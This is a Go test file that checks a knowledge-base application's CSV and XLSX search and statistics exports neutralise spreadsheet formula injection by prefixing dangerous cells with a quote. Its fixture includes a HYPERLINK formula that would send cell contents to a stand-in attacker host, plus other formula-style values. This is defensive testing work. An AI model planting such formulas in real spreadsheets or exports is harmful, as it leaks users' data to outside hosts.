package ui_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"slices"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"github.com/compendium-kb/compendium/kb"
	"github.com/compendium-kb/compendium/kb/mongodb"
)

// readCSV reads a CSV as a reader that honours the byte-order mark does
// (Excel, LibreOffice): the mark is not part of the first cell.
func readCSV(t *testing.T, body []byte) [][]string {
	t.Helper()
	if !bytes.HasPrefix(body, []byte("\uFEFF")) {
		t.Errorf("the CSV does not begin with a UTF-8 byte-order mark: %q", body[:min(len(body), 8)])
	}
	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\uFEFF")))).ReadAll()
	if err != nil {
		t.Fatalf("the CSV does not read back: %v", err)
	}
	return rows
}

// TestExportsNeutraliseFormulas: a title, a district, a state and a unit
// that a spreadsheet would run as formulas reach every export as text,
// begun with a single quote (OWASP's rule); the CSV, read as Excel reads
// it, has the same cells as the XLSX.
func TestExportsNeutraliseFormulas(t *testing.T) {
	app, svc := newAppWithService(t)
	ctx := context.Background()
	hostile := kb.Practice{ID: "hostile", Title: `=HYPERLINK("http://evil.example/?x="&A1,"Open")`,
		States: []string{"=1+1"}, Districts: []string{"=1+1", "\tTab"}, Themes: []string{"+rescue"}, Unit: "@SUM(1+1)",
		Summary: "Hostile cells", Text: "Cells a spreadsheet would run.", Version: 1, CreatedAt: time.Now().UTC()}
	if err := svc.Store.(*mongodb.Store).SavePractice(ctx, hostile); err != nil {
		t.Fatal(err)
	}
	if err := svc.Index.Put(ctx, []kb.Practice{hostile}); err != nil {
		t.Fatal(err)
	}
	status, body, _ := getFrom(t, app, "/api/v1/search?format=csv")
	rows := readCSV(t, body)
	if status != 200 || len(rows) != 2 || rows[0][0] != "id" {
		t.Fatalf("CSV: status %d, rows %q", status, rows)
	}
	col := func(name string) string { return rows[1][slices.Index(rows[0], name)] }
	for name, want := range map[string]string{"title": "'" + hostile.Title, "districts": "'=1+1; \tTab", "states": "'=1+1",
		"themes": "'+rescue", "submitted by": "'@SUM(1+1)", "id": "hostile"} {
		if got := col(name); got != want {
			t.Errorf("CSV column %s: %q, want %q", name, got, want)
		}
	}
	status, body, _ = getFrom(t, app, "/api/v1/search?format=xlsx")
	f, err := excelize.OpenReader(bytes.NewReader(body))
	if status != 200 || err != nil {
		t.Fatalf("XLSX: status %d, %v", status, err)
	}
	defer f.Close()
	xrows, err := f.GetRows("Sheet1")
	if err != nil || len(xrows) != 2 {
		t.Fatalf("XLSX rows %q (%v)", xrows, err)
	}
	for i := range rows {
		if !slices.Equal(xrows[i], trimEmpty(slices.Clone(rows[i]))) {
			t.Errorf("XLSX row %d differs from the CSV's:\n%q\n%q", i, xrows[i], rows[i])
		}
	}
	for c := 1; c <= len(xrows[1]); c++ {
		cell, _ := excelize.CoordinatesToCellName(c, 2)
		if formula, _ := f.GetCellFormula("Sheet1", cell); formula != "" {
			t.Errorf("XLSX cell %s holds the formula %q", cell, formula)
		}
	}
	status, body, _ = getFrom(t, app, "/api/v1/stats?group=state&format=csv")
	srows := readCSV(t, body)
	if status != 200 || len(srows) != 2 || srows[0][0] != "state" || srows[1][0] != "'=1+1" {
		t.Errorf("statistics CSV by state: status %d, rows %q, want the state as '=1+1", status, srows)
	}
}
